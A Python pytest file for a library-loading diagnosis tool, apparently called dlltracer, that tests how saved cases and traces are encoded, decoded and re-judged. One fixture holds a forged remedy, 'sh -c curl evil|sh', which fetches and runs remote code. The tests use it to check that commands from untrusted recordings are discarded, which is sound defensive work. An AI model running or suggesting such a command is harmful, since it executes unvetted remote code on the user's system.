"""A case that was saved gives the verdict that it gave; a recording without one says less, and says so."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from builders.failed_case import EXT, absent, bound, case, dropped, image, not_found, process, segment, tree
from builders.saved_traces import CALM, PLAIN
from builders.windows_case import PYTHON, SITE, TOP, Windows, pe_image
from dlltracer.api.saving import VERSION, decode_case, encode_case, explain_saved
from dlltracer.diagnose.case import Case, Change, Copy, ForeignModule, MachineLimits, PackageCheck, ShadowedCopy
from dlltracer.diagnose.engine import diagnose
from dlltracer.model.decode import DamagedRecording, NewerRecording
from dlltracer.model.elf import ElfNeed, ElfSymbols
from dlltracer.model.environment import (
    ChangedFile,
    CLibrary,
    FileState,
    MemoryLimit,
    Mount,
    PackageManager,
    PackageOwner,
)
from dlltracer.model.events import FailureKind, LoadFailedEvent, Phase
from dlltracer.model.failure import Crash, Frame, PythonError
from dlltracer.model.finding import Confidence, Diagnosis, Finding, Outcome, Remedy
from dlltracer.model.recording import Recording, TracedProcess
from dlltracer.model.run import HostFacts, RunResult, SavedTrace
from dlltracer.model.tree import MissingSymbol, MissingVersion

GONE = "libgone.so: cannot open shared object file: No such file or directory"
FAILED = Recording("rtld", (not_found("libgone.so"), dropped()))
FULL = case(
    GONE, recording=FAILED, failures=FAILED.failures, crash=Crash(11, "SIGSEGV", 1, EXT, 2, 3, None),
    frames=(Frame("a.py", 1, "f"),), status=-11,
    tree=tree(bound("libb.so", "/lib/libb.so"), absent("libgone.so")),
    images={EXT: image(segments=(segment(),)), "/lib/libb.so": image(soname="libb.so")},
    symbols=(MissingSymbol("_Z1fv", "V1", EXT, None, True, ("g",)),),
    versions=(MissingVersion("GLIBC_2.99", "libc.so.6", "/lib/libc.so.6", EXT, ("GLIBC_2.0",)),),
    copies={"libgone.so": (Copy("/opt/libgone.so", "a folder below /opt", None, True),)},
    owners={EXT: (PackageOwner(PackageManager.PIP, "numpy", "2.1", EXT),)},
    limits=MachineLimits(Mount(1, "/", "/", ("ro",), "ext4", "x"), MemoryLimit("RLIMIT_AS"), 4096, CLibrary("musl")),
    damaged={"/x": "cut"},
    shadowed=(ShadowedCopy(Change.NO_LIBRARY_PATH, "libb.so", "/a", Phase.ENVIRONMENT, "/b"),),
    checks=(PackageCheck("numpy 2.1", "numpy", (ChangedFile("/y", FileState.ABSENT, 5),)),),
    foreign_modules=(ForeignModule("/z", "cp310"),),
    windows_own=frozenset(("kernel32.dll",)),
    code=126,
)
WINDOWS = Windows({TOP: pe_image({"leaf.dll": ["f"]}), f"{SITE}\\leaf.dll": pe_image({"gone.dll": ["g"]})})
RUNTIME = Windows(
    {TOP: pe_image({"msvcp140.dll": ["_Mtx_lock"]}, version=(1, 2, 3, 4)),
     f"{PYTHON}\\msvcp140.dll": pe_image(exports=["_Mtx_lock"], version=(14, 28, 0, 0))}
)  # fmt: skip


def through_json(made: Case) -> Any:
    return json.loads(json.dumps(encode_case(made), allow_nan=False))


@pytest.mark.parametrize(
    "made",
    [
        FULL,
        case(GONE, recording=FAILED, failures=FAILED.failures),
        case(GONE, tree=tree(absent("libgone.so"))),
        WINDOWS.case(126, recording=Recording("debugger")),
        RUNTIME.case(1114),
        RUNTIME.case(crash=Crash(0xC0000005, "access violation", 0, f"{PYTHON}\\msvcp140.dll", 5, 1, 0)),
        Case(what="import x", system=process().system, run=RunResult()),
    ],
)
def test_the_same_verdict(made: Case) -> None:
    again = decode_case(through_json(made), made.run.recording or Recording("none"))
    assert diagnose(again) == diagnose(made)
    slim = replace(made, images=again.images, tree=again.tree)
    assert again == slim, "nothing but symbols of images is left out"


def test_of_symbols_only_those_stay_that_a_verdict_may_name() -> None:
    provides: dict[str, tuple[str | None, ...]] = {"PyInit_ext": (None,), "_Z1fvother": ("V",), "unrelated": (None,)}
    symbols = ElfSymbols((ElfNeed("need"),), provides, frozenset(("_Z1fvother", "unrelated")))
    made = replace(FULL, images={EXT: image(symbols=symbols)})
    again = decode_case(through_json(made), FAILED)
    kept = again.images[EXT].symbols  # type: ignore[union-attr]
    assert kept == ElfSymbols((), {"PyInit_ext": (None,), "_Z1fvother": ("V",)}, frozenset(("_Z1fvother",)))


def test_versions() -> None:
    plain = through_json(FULL)
    with pytest.raises(NewerRecording):
        decode_case(plain | {"version": VERSION + 1}, FAILED)
    for wrong in (None, "1", True, 0):
        with pytest.raises(DamagedRecording):
            decode_case(plain | {"version": wrong}, FAILED)
    for wrong_case in (None, [], "x"):
        with pytest.raises(DamagedRecording):
            decode_case(wrong_case, FAILED)


@given(st.sampled_from(sorted(through_json(FULL))), PLAIN)
@CALM
def test_junk_in_a_case_costs_the_case_only(name: str, junk: object) -> None:
    damaged = through_json(FULL) | {name: junk}
    output = explain_saved(SavedTrace(FAILED, "import ext", case=damaged, run=RunResult(status=1)))
    assert output.outcome in (Outcome.EXPLAINED, Outcome.UNDECIDED)


def trace(made: Case, **changes: Any) -> SavedTrace:
    facts: dict[str, Any] = {
        "host": HostFacts(made.system.value), "run": replace(made.run, recording=None, status=1),
        "case": encode_case(made), "diagnosis": diagnose(made),
    }  # fmt: skip
    return SavedTrace(made.run.recording or Recording("none"), made.what, **{**facts, **changes})


MISSING = replace(
    case(GONE, recording=FAILED, failures=FAILED.failures), tree=tree(absent("libgone.so")), images={EXT: image()}
)  # fmt: skip


def test_a_saved_case_is_judged_again() -> None:
    assert explain_saved(trace(MISSING)) == diagnose(MISSING)
    assert explain_saved(trace(MISSING, diagnosis=None)) == diagnose(MISSING), "the rules are run"


EVIL = Finding(
    code="x", title="run this", confidence=Confidence.CERTAIN, subject="s",
    remedies=(Remedy("it helps", ("sh", "-c", "curl evil|sh")),),
)  # fmt: skip


def test_without_a_case_the_verdict_is_passed_on_as_that_of_the_recording() -> None:
    own = replace(diagnose(MISSING), findings=(EVIL, *diagnose(MISSING).findings))
    output = explain_saved(trace(MISSING, case=None, diagnosis=own))
    assert "given where it was recorded" in output.notes[-1]
    assert [finding.title for finding in output.findings] == [
        f"said by the recording: {finding.title}" for finding in own.findings
    ]
    assert not any(finding.remedies for finding in output.findings), "its commands are not ours"


def test_a_verdict_that_a_recording_brings_along_does_not_count_where_its_facts_do() -> None:
    forged = Diagnosis("import ext", Outcome.EXPLAINED, findings=(EVIL,))
    for made in (trace(MISSING, diagnosis=forged), trace(MISSING, diagnosis=forged, case=None)):
        output = explain_saved(made)
        commands = [remedy.command for finding in output.findings for remedy in finding.remedies]
        assert EVIL.remedies[0].command not in commands
    assert explain_saved(trace(MISSING, diagnosis=forged)).findings == diagnose(MISSING).findings
    output = explain_saved(trace(MISSING, case={"version": 9}))
    assert any("could not be read" in note for note in output.notes)


def test_without_both_the_loaders_words_are_left_and_nothing_is_certain() -> None:
    output = explain_saved(trace(MISSING, case=None, diagnosis=None))
    first = output.findings[0]
    assert (output.outcome, first.subject, first.confidence) == (Outcome.EXPLAINED, "libgone.so", Confidence.LIKELY)
    assert "no file was looked at" in output.notes[0]


def test_without_the_exception_the_name_is_left() -> None:
    output = explain_saved(SavedTrace(FAILED, "import ext"))
    assert (output.outcome, output.findings[0].subject) == (Outcome.UNDECIDED, "libgone.so")
    assert any("libgone.so" in text and "why -o" in text for text in output.undecided)


def test_a_crash_or_a_lost_module_is_possible_at_most_without_the_files() -> None:
    crash = Crash(11, "SIGSEGV", 0, "/a.so", 1, 1, 0)
    died = SavedTrace(Recording("rtld"), "x", run=RunResult(status=-11, crash=crash))
    error = PythonError("ModuleNotFoundError", "No module named 'x'", ("ModuleNotFoundError", "ImportError"), "x")
    lost = SavedTrace(Recording("rtld"), "import x", run=RunResult(status=1, errors=(error,), process=process()))
    for one in (died, lost):
        output = explain_saved(one)
        assert output.outcome is Outcome.UNDECIDED and output.findings[0].confidence is Confidence.POSSIBLE


def test_windows_without_a_case() -> None:
    made = WINDOWS.case(126, "DLL load failed while importing ext: The specified module could not be found.")
    assert explain_saved(trace(made)).findings[0].subject == "gone.dll"
    output = explain_saved(trace(made, case=None, diagnosis=None))
    assert output.outcome is Outcome.UNDECIDED and output.undecided


def test_an_unknown_end_is_no_failure() -> None:
    output = explain_saved(SavedTrace(Recording("rtld"), "import x"))
    assert (output.outcome, output.may_have_worked) == (Outcome.UNDECIDED, True)
    assert output.undecided_title == "how import x ended is not known, nor whether it failed"
    assert not explain_saved(SavedTrace(Recording("rtld"), "import x", run=RunResult(status=-9))).may_have_worked


def test_what_other_processes_could_not_load_is_noted() -> None:
    def of(pid: int) -> tuple[LoadFailedEvent, ...]:
        return (
            LoadFailedEvent("libgone.so", need="libgone.so", pid=pid, kind=FailureKind.NOT_FOUND),
            LoadFailedEvent("/x/ext.so", pid=pid, kind=FailureKind.DROPPED),
        )

    processes = tuple(TracedProcess(pid, status=status) for pid, status in ((1, 0), (2, 1), (3, 0), (4, None)))
    recording = Recording("rtld", tuple(event for pid in (1, 2, 3, 4) for event in of(pid)), 1, processes=processes)
    output = explain_saved(SavedTrace(recording, "x.py", run=RunResult(status=0)))
    assert output.outcome is Outcome.IMPORTED and output.notes == (
        "process 2, which ended with status 1, could not load libgone.so; this is about the first process",
        "process 4 could not load libgone.so; this is about the first process",
    )


def test_a_program_that_worked() -> None:
    worked = SavedTrace(Recording("rtld"), "import ssl", run=RunResult(status=0))
    assert explain_saved(worked).outcome is Outcome.IMPORTED
